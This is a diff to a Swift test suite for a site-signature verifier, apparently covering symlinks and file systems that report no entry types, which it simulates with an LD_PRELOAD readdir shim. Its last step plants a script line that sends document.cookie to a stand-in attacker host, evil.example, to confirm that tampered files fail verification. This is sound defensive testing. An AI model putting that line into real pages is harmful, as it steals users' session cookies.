@@ -115,7 +115,7 @@ extension PublishingGate {
         #expect(symlink("../lib/app.js", c.path("assets/app.js")) == 0)
         #expect(symlink("../lib/app.js.minisig", c.path("assets/app.js.minisig")) == 0)
         try c.write("index.md", "---\ntitle: home\n---\nhome\n", sign: true)
-        #expect(symlink("index.md", c.path("home.md")) == 0) // a page: Jekyll renders what it reads
+        #expect(symlink("main.js", c.path("assets/link.js")) == 0) // a page: Jekyll renders what it reads
         let site = try c.jekyllBuild()
         var st = stat()
         #expect(lstat(site.appendingPathComponent("assets/app.js").path, &st) == 0 && (st.st_mode & S_IFMT) == S_IFLNK, "Jekyll copied no link")
@@ -195,5 +195,64 @@ extension PublishingGate {
         #expect(symlink("../../../chart.svg", c.path("_docs/guide/_posts/2024-01-01-chart.svg")) == 0)
         let link = try CLI.avault(["verify", "--require-signature", c.content.path] + c.ring)
         #expect(link.code == 1 && link.out.contains("2024-01-01-chart.svg: malformed: a symbolic link"), "\(link.out)")
+    }
+
+    /// A file system may list entries without their kind (`DT_UNKNOWN`: some network and FUSE
+    /// ones, XFS without `ftype`). The pairing of `FILE.minisig` with `FILE` took only entries
+    /// listed as regular files, so there every signature was taken as a file of its own and a
+    /// signed site could not pass. Run here under a `readdir` that lists every kind as unknown
+    /// (an `LD_PRELOAD` library built for the test), the gate must judge as it does elsewhere.
+    @Test(.timeLimit(.minutes(30))) func aFileSystemThatListsNoKindsIsWalkedAlike() throws {
+        let c = try Corpus()
+        defer { try? FileManager.default.removeItem(at: c.demo.dir) }
+        let shim = c.demo.dir.appendingPathComponent("unknown-kinds.so").path
+        let source = c.demo.dir.appendingPathComponent("unknown-kinds.c")
+        try CLI.write("""
+            #define _GNU_SOURCE
+            #include <dirent.h>
+            #include <dlfcn.h>
+            struct dirent *readdir(DIR *d) {
+                struct dirent *(*real)(DIR *) = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
+                struct dirent *e = real(d);
+                if (e) e->d_type = DT_UNKNOWN;
+                return e;
+            }
+            struct dirent64 *readdir64(DIR *d) {
+                struct dirent64 *(*real)(DIR *) = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
+                struct dirent64 *e = real(d);
+                if (e) e->d_type = DT_UNKNOWN;
+                return e;
+            }
+
+            """, to: source)
+        let built = try CLI.run("clang", ["-shared", "-fPIC", "-O1", "-o", shim, source.path, "-ldl"])
+        try #require(built.code == 0, "clang: \(built.err)")
+        // (Under AddressSanitizer, the library comes before its runtime: allowed for this run.)
+        let asan = ProcessInfo.processInfo.environment["ASAN_OPTIONS"].map { $0 + ":" } ?? ""
+        let unknownKinds = ["LD_PRELOAD": shim, "ASAN_OPTIONS": asan + "verify_asan_link_order=0"]
+
+        try c.write("index.md", "---\ntitle: home\n---\n<script src=\"/assets/main.js\"></script>\n", sign: true)
+        try c.write("assets/main.js", "console.log('signed');\n")
+        try c.write("_posts/2024-01-01-post.md", "---\ntitle: post\n---\npost\n", sign: true)
+        #expect(try CLI.avault(["sign", "--detached", "--site", c.content.path, c.path("assets/main.js"), "--key", "demo-desk"] + c.demo.args).code == 0)
+        #expect(symlink("main.js", c.path("assets/link.js")) == 0)
+        let gate = ["verify", "--require-signature", "--json", c.content.path] + c.ring
+        for env in [[:], unknownKinds] {
+            let r = try CLI.avault(gate, env: env)
+            // The same reports, in the same order, with and without kinds in the listing: the
+            // script with its signature, no report of the signature itself, the link refused.
+            let outcomes = r.out.split(separator: "\n").compactMap { line -> String? in
+                guard let rec = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any], rec["type"] as? String == "record",
+                      let path = rec["path"] as? String, let outcome = rec["outcome"] as? String else { return nil }
+                return "\(path.dropFirst(c.content.path.count + 1)) \(outcome)"
+            }
+            #expect(outcomes == ["_posts/2024-01-01-post.md valid", "assets/link.js malformed", "assets/main.js valid", "index.md valid"],
+                    "\(env.isEmpty ? "kinds listed" : "no kinds listed"): \(r.out)")
+            #expect(r.code == 1, "\(r.err)")
+        }
+        unlink(c.path("assets/link.js"))
+        #expect(try CLI.avault(gate, env: unknownKinds).code == 0)
+        try c.write("assets/main.js", "fetch('https://evil.example/?' + document.cookie);\n")
+        #expect(try CLI.avault(gate, env: unknownKinds).code == 1)
     }
 }
